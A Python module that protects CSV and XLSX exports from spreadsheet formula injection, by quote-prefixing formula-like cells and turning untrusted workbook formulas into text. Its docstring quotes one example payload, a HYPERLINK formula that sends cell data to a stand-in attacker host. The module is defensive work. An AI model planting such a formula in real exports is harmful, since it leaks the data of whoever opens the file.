"""Writing CSV and XLSX exports so that no cell people typed becomes a live formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some also after a
tab or a carriage return) as a formula: a member named ``=HYPERLINK("http://evil.example/?"&A1)``
would send the sheet's data away when a colleague opens the export. Every export goes through
this module:

- CSV: `CsvWriter`, `CsvDictWriter`, `csv_text` and `csv_lines` prefix such text with a single
  quote (OWASP's advice), which spreadsheets show as text and hide.
- XLSX: `workbook_bytes` saves a workbook after turning every formula cell into a text cell
  with the quote-prefix style, except the cells the caller lists as its own formulas.

Numbers stay numbers: an int, float or Decimal is never quoted, and neither is text that is a
plain number (``-12.50``), since it cannot be a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Iterator, Mapping, Sequence
from decimal import Decimal
from typing import Any

from openpyxl import Workbook

__all__ = [
    "FORMULA_START",
    "CsvDictWriter",
    "CsvWriter",
    "csv_cell",
    "csv_lines",
    "csv_text",
    "is_formula_like",
    "neutralise",
    "workbook_bytes",
]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could run `text` as a formula (a plain number cannot)."""
    return text.startswith(FORMULA_START) and _PLAIN_NUMBER.fullmatch(text) is None


def neutralise(value: Any) -> Any:
    """`value` with formula-like text quoted; numbers and everything else unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """What a CSV writer should receive for `value`: numbers as they are, anything else as inert text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise(value if isinstance(value, str) else str(value))


class CsvWriter:
    """`csv.writer` whose every cell passes through `csv_cell`."""

    def __init__(self, file: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class CsvDictWriter:
    """`csv.DictWriter` whose every value passes through `csv_cell`."""

    def __init__(self, file: Any, fieldnames: Sequence[str], **kwargs: Any) -> None:
        self._writer = csv.DictWriter(file, fieldnames=fieldnames, **kwargs)

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({k: csv_cell(v) for k, v in row.items()})


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The CSV of `rows`, as one string."""
    out = io.StringIO()
    CsvWriter(out).writerows(rows)
    return out.getvalue()


class _Echo:
    """A file whose write() returns the line, so each row comes back as a string."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV of `rows`, one line at a time (for streaming responses)."""
    writer = CsvWriter(_Echo())
    for row in rows:
        yield writer.writerow(row)


def _make_text(cell: Any) -> None:
    value = cell.value
    if cell.data_type == "f":
        text = value if isinstance(value, str) else str(getattr(value, "text", value))
        cell.value = None
        cell._value = text  # noqa: SLF001 - openpyxl would bind "=..." as a formula again
        cell.data_type = "s"
        cell.quotePrefix = True
    elif isinstance(value, str) and value.startswith(FORMULA_START):
        cell.quotePrefix = True


def workbook_bytes(book: Workbook, *, formulas: Collection[tuple[str, str]] = ()) -> bytes:
    """The .xlsx of `book`, every formula cell turned into text but the caller's own `formulas`
    ((sheet title, coordinate) pairs of formulas the code wrote, never people's text)."""
    trusted = set(formulas)
    for sheet in book.worksheets:
        for cell in list(sheet._cells.values()):  # noqa: SLF001 - the cells that exist, not the grid
            if (sheet.title, cell.coordinate) not in trusted:
                _make_text(cell)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
